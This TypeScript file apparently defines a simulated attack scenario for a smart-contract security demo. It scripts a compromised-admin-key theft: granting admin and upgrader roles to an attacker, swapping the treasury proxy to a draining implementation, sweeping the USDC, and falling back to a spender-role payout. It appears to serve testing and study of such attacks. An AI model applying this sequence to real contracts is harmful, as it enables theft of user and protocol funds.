import { encodeFunctionData, keccak256, toHex, zeroHash } from 'viem'
import { drainAbi, treasuryAbi } from '../abi.ts'
import { accounts } from '../accounts.ts'
import { tokenBalance } from './holdings.ts'
import { defineScenario } from './scenario.ts'
import { deployAttacker, sendSteps } from './send.ts'

/** OpenZeppelin's DEFAULT_ADMIN_ROLE is zero. */
const adminRole = zeroHash
const upgraderRole = keccak256(toHex('UPGRADER_ROLE'))
const spenderRole = keccak256(toHex('SPENDER_ROLE'))

/** The attack of Ankr, Radiant, WazirX and many more: the code is sound and the key is gone. */
export const compromisedAdmin = defineScenario(
  {
    id: 'compromised-admin',
    title: 'Compromised admin key',
    story:
      'The key of the treasury’s administrator was phished. The thief gives the roles of administrator and upgrader to ' +
      'an account of their own, puts a draining implementation behind the proxy, and takes all the USDC. When that is ' +
      'blocked they try the front door, as a spender.',
    victims: ({ addresses }) => [addresses.treasury],
    unit: 'USDC',
    decimals: 6,
    line: 'pending',
  },
  async (market) => {
    const { treasury, tokens } = market.addresses
    const drain = await deployAttacker(market, 'draining implementation', market.compiled.TreasuryDrain)
    const thief = accounts.attacker.address
    const grant = (label: string, role: `0x${string}`) => ({
      label,
      from: accounts.treasuryAdmin,
      to: treasury,
      data: encodeFunctionData({ abi: treasuryAbi, functionName: 'grantRole', args: [role, thief] }),
      gas: 200_000n,
    })
    const steps = [
      grant('grant the admin role to the thief', adminRole),
      grant('grant the upgrader role to the thief', upgraderRole),
      {
        label: 'upgrade the treasury to a draining implementation',
        to: treasury,
        data: encodeFunctionData({ abi: treasuryAbi, functionName: 'upgradeToAndCall', args: [drain, '0x'] }),
        gas: 300_000n,
      },
      {
        label: 'sweep the treasury',
        to: treasury,
        data: encodeFunctionData({ abi: drainAbi, functionName: 'sweep', args: [tokens.usdc] }),
        gas: 300_000n,
      },
    ]
    return {
      attackers: [thief, drain],
      attack: async (options) => {
        const sent = await sendSteps(market, steps, options)
        const left = await tokenBalance(market, tokens.usdc, treasury)
        if (left === 0n || options.signal?.aborted === true) return sent
        const frontDoor = [
          grant('grant the spender role to the thief', spenderRole),
          {
            label: 'pay the treasury out to the thief',
            to: treasury,
            data: encodeFunctionData({
              abi: treasuryAbi,
              functionName: 'pay',
              args: [tokens.usdc, thief, left],
            }),
            gas: 300_000n,
          },
        ]
        return [...sent, ...(await sendSteps(market, frontDoor, options))]
      },
      // Nothing ordinary is paid from the treasury while the example runs, so that its balance is the measure.
      valueAtRisk: () => tokenBalance(market, tokens.usdc, treasury),
    }
  },
)
